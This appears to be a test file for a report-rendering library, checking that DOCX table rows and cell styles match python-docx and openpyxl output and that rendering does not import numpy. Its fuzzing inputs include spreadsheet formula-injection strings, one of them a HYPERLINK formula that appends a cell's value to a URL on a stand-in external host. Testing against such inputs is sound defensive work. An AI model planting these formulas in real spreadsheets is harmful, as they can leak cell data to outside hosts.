"""Rendering at scale: DOCX table rows written in one pass are exactly what python-docx writes cell by cell, XLSX
cells styled from a cache get exactly the styles openpyxl would give them, and rendering never imports numpy.
(Speed itself is measured by bench/scaling.py, never asserted here.)"""

from __future__ import annotations

import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from reportascode.render import docx as docx_writer
from reportascode.render.content import Cell
from reportascode.render.docx_rows import data_rows

TEXTS = st.one_of(
    st.sampled_from(["", " ", "  lead", "trail ", "\u3000全角空格\u3000", "a\tb", "a\nb\r\nc", "\t", "\n",
                     '=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-1", "@SUM(1+1)", "<w:t>&amp;</w:t>",
                     "\x1b[31m", "\x00\x0b\x0c", "\ud800", "\ufffe", "长" * 5000, "9.5E+24", "a]]>b", "'\""]),
    st.text(max_size=40),
)
CELLS = st.builds(
    Cell,
    text=TEXTS,
    value=st.sampled_from([None, 3, Decimal("1.50")]),
    kind=st.sampled_from(["text", "money", "count", "date"]),
    css=st.sampled_from(["", "heat-1", "heat-3", "heat-ok", "sev-error", "sev-warning"]),
    error=st.sampled_from(["", "SCHEMA-TYPE", "FIN-02 TRK-03"]),
)


def _table_xml(value: Cell, width: int, size: float, fill: str | None, fast: bool) -> bytes:
    """A one-cell table in a new document, its row written by python-docx (the path header rows still take)
    or by :func:`data_rows`; the whole document's XML."""
    import docx
    from docx.shared import Twips
    from lxml import etree

    word: Any = docx.Document()
    if fast:
        table = word.add_table(rows=0, cols=1)
        table._tbl.extend(data_rows([[value]], [width], size, fill))
    else:
        table = word.add_table(rows=1, cols=1)
        cell = table.rows[0].cells[0]
        docx_writer._cell(cell, value, size=size, fill=fill)
        cell.width = Twips(width)
    return bytes(etree.tostring(word.element, encoding="utf-8"))


@settings(max_examples=300, deadline=None)
@given(value=CELLS, width=st.integers(0, 20000), size=st.sampled_from([7.5, 8.0, 9.0]),
       fill=st.sampled_from([None, "EFEFEF", "FBF3DC"]))
def test_docx_rows_are_what_python_docx_writes(value: Cell, width: int, size: float, fill: str | None) -> None:
    assert _table_xml(value, width, size, fill, fast=True) == _table_xml(value, width, size, fill, fast=False)


def test_rendering_does_not_import_numpy(tmp_path: Path) -> None:
    """openpyxl imports numpy when it is installed (0.1 s); rendering never needs it."""
    script = (
        "import sys, shutil, pathlib\n"
        "from reportascode.cli import main\n"
        f"root = pathlib.Path({str(tmp_path)!r})\n"
        f"shutil.copytree({str(Path(__file__).parent.parent / 'reports')!r}, root / 'reports')\n"
        "import os; os.chdir(root)\n"
        "try:\n"
        "    main(['render', 'reports/2024', '--format', 'docx', '--format', 'xlsx', '--format', 'html',"
        " '--out', str(root / 'out')])\n"
        "except SystemExit as exit_:\n"
        "    assert not exit_.code, exit_.code\n"
        "import openpyxl, docx\n"
        "print('numpy' in sys.modules)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().splitlines()[-1] == "False"
